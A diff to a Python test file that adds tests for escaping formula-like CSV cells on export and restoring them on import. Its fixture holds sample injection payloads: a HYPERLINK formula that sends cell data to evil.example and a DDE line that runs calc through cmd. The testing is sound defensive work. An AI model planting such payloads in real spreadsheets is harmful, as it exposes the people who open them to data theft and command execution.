@@ -20,7 +20,9 @@ from kb.spreadsheet import (
     SpreadsheetError,
     export_sheet,
     import_sheet,
+    neutralise_cell,
     read_rows,
+    restore_cell,
 )
 from kb.store import ConflictError, ContentStore, Person
 from tests.conftest import entry_text
@@ -430,6 +432,48 @@ def test_export_into_an_empty_sheet_keeps_everything(kb, tmp_path):
         mine, theirs = sheet.entry(slug), other.entry(slug)
         assert theirs == mine  # every field: status, owner and review date included
     assert other.entry("item-arrived-damaged").status == "draft"
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Refund")',
+    "answer": "=cmd|' /C calc'!A0 is what a bad file holds.",
+    "phone": "- Offer a swap.\n- Say sorry.",
+    "phrasings": ("@SUM(1+1)", "+1 555 0100 keeps ringing", "'=quoted already"),
+    "category": "-minus category",
+}
+
+
+def test_csv_cells_that_look_like_formulas_are_quoted_and_read_back(kb, tmp_path):
+    _, sheet, _ = kb
+    entry = replace(sheet.entry("refund-status"), **FORMULAS)
+    sheet.save_entry(entry, message="Odd text", author=IMPORTER)
+    path = tmp_path / "out.csv"
+    export_sheet(sheet, path)
+
+    with open(path, newline="", encoding="utf-8-sig") as handle:
+        raw = {r[9]: r for r in csv.reader(handle)}["refund-status"]
+    # OWASP: a cell a spreadsheet would run as a formula starts with a quote
+    assert raw[0].startswith("'=HYPERLINK(") and raw[1].startswith("'=cmd|")
+    assert raw[2].startswith("'- Offer") and raw[5] == "'-minus category"
+    assert raw[3] == "'@SUM(1+1); +1 555 0100 keeps ringing; '=quoted already"
+    for cell in raw:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+    other = Sheet(ContentStore.create(tmp_path / "other", {"_sheet/synonyms.txt": ""}, "start"))
+    run_import(other, path)
+    back = other.entry("refund-status")
+    for name, value in FORMULAS.items():
+        got = getattr(back, name)
+        assert (got.strip() if isinstance(got, str) else got) == value
+    again = run_import(sheet, path)  # the sheet's own export changes nothing
+    assert again.unchanged == 2 and not again.updated
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-", "@x", "\tx", "\rx", "'=x", "''+x", "'", "",
+                                  "'plain", "plain", "a=b", "==x"])
+def test_neutralised_cells_read_back_exactly(text):
+    assert restore_cell(neutralise_cell(text)) == text
+    assert not neutralise_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))
 
 
 # -- the command line --------------------------------------------------------------------
